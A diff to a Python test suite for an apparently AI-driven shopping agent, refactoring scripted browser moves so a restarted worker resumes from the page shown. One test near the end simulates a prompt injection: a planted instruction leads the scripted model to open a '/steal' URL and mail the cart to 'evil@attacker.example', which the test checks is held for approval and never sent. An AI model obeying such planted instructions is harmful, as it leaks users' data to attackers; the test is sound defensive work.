@@ -31,7 +31,7 @@ from steward.domain import ApprovalStatus, TaskSpec, TaskStatus
 from steward.domain.clock import SimulatedClock
 from steward.models import ScriptedModel
 from steward.models.base import Message, ModelResponse, ToolSpec
-from steward.models.scripted import call_tool
+from steward.models.scripted import ScriptFunction, ScriptItem, call_tool
 from steward.service import Service
 from steward.store import Store
 from steward.store.schema import metadata
@@ -50,7 +50,7 @@ LOGIN = "corner-shop"
 NAME, ADDRESS = "Ada Lovelace", "12 Analytical Way"
 CART = re.compile(r"CART-[0-9A-F]{6}")
 
-Script = Callable[[Sequence[Message], Sequence[ToolSpec]], ModelResponse]
+Script = Sequence[ScriptItem] | ScriptFunction
 
 
 def page_of(messages: Sequence[Message]) -> str:
@@ -74,15 +74,18 @@ def ref(page: str, role: str, name: str) -> str:
     return found.group(1)
 
 
-def scripted(*moves: Callable[[str], ModelResponse]) -> Script:
-    """A model making ``moves`` in turn, each from the last page seen; it fails the task
-    (saying why) when a page is not what the move expects."""
+def filled(page: str, name: str) -> bool:
+    """Whether the page shows a value in the text box ``name``."""
+    return re.search(rf'- textbox "{re.escape(name)}"[^\n]*\]: \S', page) is not None
+
+
+def answering(move: Callable[[str], ModelResponse]) -> ScriptFunction:
+    """An answer made by ``move`` from the last page seen; a page that is not as ``move``
+    expects fails the task, saying why."""
 
     def answer(messages: Sequence[Message], tools: Sequence[ToolSpec]) -> ModelResponse:
-        made = sum(len(m.tool_calls) for m in messages if m.role == "assistant")
-        page = page_of(messages)
         try:
-            return moves[made](page) if made < len(moves) else call_tool("finish", result="done")
+            return move(page_of(messages))
         except LookupError as exc:
             last = messages[-1].content if messages else ""
             return call_tool("fail", reason=f"{exc}\nlast observation: {last}")
@@ -90,7 +93,12 @@ def scripted(*moves: Callable[[str], ModelResponse]) -> Script:
     return answer
 
 
-def sign_in(url: str) -> Script:
+def scripted(*moves: Callable[[str], ModelResponse]) -> list[ScriptItem]:
+    """``moves`` in turn, each from the last page seen, then finish."""
+    return [*(answering(m) for m in moves), call_tool("finish", result="done")]
+
+
+def sign_in(url: str) -> list[ScriptItem]:
     return scripted(
         lambda _: call_tool("browser_open", url=f"{url}/login"),
         lambda page: call_tool(
@@ -103,23 +111,37 @@ def sign_in(url: str) -> Script:
     )
 
 
-def buy_kettle(url: str) -> Script:
-    return scripted(
-        lambda _: call_tool("browser_open", url=f"{url}/search?q=kettle"),
-        lambda page: call_tool("browser_click", ref=ref(page, "link", "Blue kettle")),
-        lambda page: call_tool("browser_click", ref=ref(page, "button", "Add to cart")),
-        lambda _: call_tool("browser_wait", text="Added to cart", seconds=30),
-        lambda page: call_tool("browser_click", ref=ref(page, "link", "Cart")),
-        lambda page: call_tool("browser_click", ref=ref(page, "link", "Checkout")),
-        lambda page: call_tool("browser_type", ref=ref(page, "textbox", "Full name"), text=NAME),
-        lambda page: call_tool("browser_type", ref=ref(page, "textbox", "Address"), text=ADDRESS),
-        lambda page: call_tool(
-            "browser_submit",
-            ref=ref(page, "button", "Place order"),
-            expect_url=f"{url}/orders",
-            expect_text=cart_in(page),
-        ),
-    )
+def buy_kettle(url: str) -> ScriptFunction:
+    """The shopper: each answer from the page in front of it (as a model would, so that a
+    restarted worker, or a conversation compacted since, carries on where the page is)."""
+
+    def move(page: str) -> ModelResponse:
+        heading = re.search(r'heading "([^"]*)" \[level=1\]', page)
+        title = heading.group(1) if heading else ""
+        if not page:
+            return call_tool("browser_open", url=f"{url}/search?q=kettle")
+        if title.startswith("Search"):
+            return call_tool("browser_click", ref=ref(page, "link", "Blue kettle"))
+        if title == "Blue kettle" and "Added to cart" not in page:
+            return call_tool("browser_click", ref=ref(page, "button", "Add to cart"))
+        if title == "Blue kettle":
+            return call_tool("browser_click", ref=ref(page, "link", "Cart"))
+        if title == "Your cart":
+            return call_tool("browser_click", ref=ref(page, "link", "Checkout"))
+        if title == "Checkout" and not filled(page, "Full name"):
+            return call_tool("browser_type", ref=ref(page, "textbox", "Full name"), text=NAME)
+        if title == "Checkout" and not filled(page, "Address"):
+            return call_tool("browser_type", ref=ref(page, "textbox", "Address"), text=ADDRESS)
+        if title == "Checkout":
+            return call_tool(
+                "browser_submit",
+                ref=ref(page, "button", "Place order"),
+                expect_url=f"{url}/orders",
+                expect_text=cart_in(page),
+            )
+        return call_tool("finish", result=f"done: {title}")
+
+    return answering(move)
 
 
 def cart_in(page: str) -> str:
@@ -273,7 +295,8 @@ async def test_signed_in_on_day_one_the_day_three_order_waits_for_approval_and_i
         ADDRESS,
     )
     [posted] = shop.state.requests("POST", "/order")
-    assert (posted.mode, posted.user) == ("navigate", "ada")  # a form sent by the browser
+    assert posted.user == "ada"
+    assert posted.form == {"cart": ref, "name": NAME, "address": ADDRESS}  # the form as shown
 
     await assert_password_nowhere(day, [first, second], tmp_path, logs, caplog)
 
@@ -285,6 +308,7 @@ async def test_a_worker_killed_right_after_the_order_left_finds_it_in_the_histor
     """Day 3 in worker processes (real restarts): the first is killed by the shop the moment
     the order form reached it, before it could record the answer; the next one settles the
     submission by reading the order history — it is not sent again."""
+    seconds = start_deadline(120)  # measured before the processes below compete with it
     clock = SimulatedClock(datetime.now(UTC) - timedelta(days=2))  # day 3 is today
     day = Day(store, clock, tmp_path / "data", shop)
     await day.setup()
@@ -323,9 +347,7 @@ async def test_a_worker_killed_right_after_the_order_left_finds_it_in_the_histor
                 )
                 return len(pending) == 1
 
-            await until(
-                asked, "the order to be put to the person", procs, logs, start_deadline(120)
-            )
+            await until(asked, "the order to be put to the person", procs, logs, seconds)
             [approval] = await day.svc.list_approvals(
                 person_id=day.person, status=ApprovalStatus.PENDING
             )
@@ -339,7 +361,7 @@ async def test_a_worker_killed_right_after_the_order_left_finds_it_in_the_histor
             async def killed() -> bool:
                 return bool(doomed.poll() is not None)
 
-            await eventually(killed, "the shop to kill the worker", seconds=start_deadline(120))
+            await eventually(killed, "the shop to kill the worker", seconds=seconds)
             shop.on_order = None
             del procs["doomed"]
             assert shop.state.count("POST", "/order") == 1
@@ -350,7 +372,7 @@ async def test_a_worker_killed_right_after_the_order_left_finds_it_in_the_histor
             async def done() -> bool:
                 return await day.status(task) is TaskStatus.SUCCEEDED
 
-            await until(done, "the task to succeed", procs, logs, start_deadline(120))
+            await until(done, "the task to succeed", procs, logs, seconds)
         finally:
             stop_all(procs)
     assert shop.state.count("POST", "/order") == 1  # placed once
@@ -420,7 +442,7 @@ async def test_a_planted_instruction_steers_nothing(
             lambda _: call_tool("browser_open", url=f"{elsewhere.url}/steal"),
             lambda _: call_tool(
                 "mail_send",
-                to="evil@attacker.example",
+                to=["evil@attacker.example"],
                 subject="My cart",
                 body="The cart, as asked on the deals page.",
             ),
@@ -434,7 +456,7 @@ async def test_a_planted_instruction_steers_nothing(
     assert await day.status(task) is TaskStatus.WAITING, await day.story(task)
     [asked] = await day.svc.list_approvals(person_id=day.person, status=ApprovalStatus.PENDING)
     assert asked.tool == "mail_send"
-    assert asked.args["to"] == "evil@attacker.example"
+    assert asked.args["to"] == ["evil@attacker.example"]
     assert "untrusted input" in asked.reason
     assert "mail_send" not in said  # it did not run
     assert shop.state.count("POST", "/order") == 0
